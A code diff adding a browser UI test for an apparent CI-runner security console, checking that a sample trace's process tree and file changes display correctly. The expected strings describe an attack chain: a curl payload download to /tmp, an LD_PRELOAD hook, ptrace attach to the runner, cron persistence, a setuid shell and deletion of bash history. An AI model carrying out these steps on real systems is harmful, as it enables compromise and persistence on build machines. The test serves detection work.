@@ -82,6 +82,41 @@ public sealed class ConsolePagesTests(BrowserFixture browser) : IAsyncLifetime
     }
 
     [Fact]
+    public async Task A_subshell_shows_between_its_script_and_its_children_and_the_files_tab_shows_a_rename()
+    {
+        var id = await _console.UploadAndSettleAsync(_console.Client(), SampleTrace.GzipLines(SampleTrace.EvidenceLines()), "pid trace", "octo/app");
+        var page = await _context.NewPageAsync();
+        await SignInAsync(page);
+
+        await page.GotoAsync($"/#/jobs/{id}/processes");
+        var worker = page.Locator("li[data-pid='1200']");
+        await Assertions.Expect(worker.Locator(".node").First).ToContainTextAsync("running at start");
+        await worker.Locator("button.toggle").First.ClickAsync();
+        var script = worker.Locator("li[data-pid='1300']");
+        await script.Locator("button.toggle").First.ClickAsync();
+        var subshell = script.Locator("li[data-pid='1310']");
+        await Assertions.Expect(subshell.Locator(".node").First).ToContainTextAsync("forked without exec");
+        await subshell.Locator("button.toggle").First.ClickAsync();
+        await Assertions.Expect(subshell.Locator("li[data-pid='1311'] .args")).ToHaveTextAsync("curl -so /tmp/x/job https://example.org/job");
+        var node = subshell.Locator("li[data-pid='1312'] .node");
+        await Assertions.Expect(node.Locator(".env")).ToHaveTextAsync("LD_PRELOAD=/tmp/x/hook.so");
+        await Assertions.Expect(node.Locator(".access")).ToHaveTextAsync("ptrace_attach → Runner.Worker (1200)");
+        // The tree has one root: nothing hangs under an unknown parent.
+        await Assertions.Expect(page.Locator(".tree > ul > li")).ToHaveCountAsync(1);
+        await ScreenshotAsync(page, "process-tree-fork");
+
+        await page.ClickAsync("role=tab[name='Files']");
+        await page.SelectOptionAsync("select[aria-label='Show']", "changed");
+        var renamed = page.Locator("#files tr", new() { HasTextString = "/tmp/x/job" });
+        await Assertions.Expect(renamed.Locator(".renamed-to")).ToHaveTextAsync("renamed → /etc/cron.d/job");
+        var target = page.Locator("#files tr.sensitive", new() { HasTextString = "/etc/cron.d/job" });
+        await Assertions.Expect(target.Locator(".renamed-from")).ToHaveTextAsync("renamed from /tmp/x/job");
+        await Assertions.Expect(page.Locator("#files tr", new() { HasTextString = "/tmp/x/sh" }).Locator(".chmod")).ToHaveTextAsync("chmod 4755");
+        await Assertions.Expect(page.Locator("#files tr", new() { HasTextString = ".bash_history" }).Locator(".deleted")).ToHaveTextAsync("deleted");
+        await ScreenshotAsync(page, "files-changes");
+    }
+
+    [Fact]
     public async Task The_runner_memory_read_shows_as_a_detection_with_its_evidence()
     {
         var page = await _context.NewPageAsync();
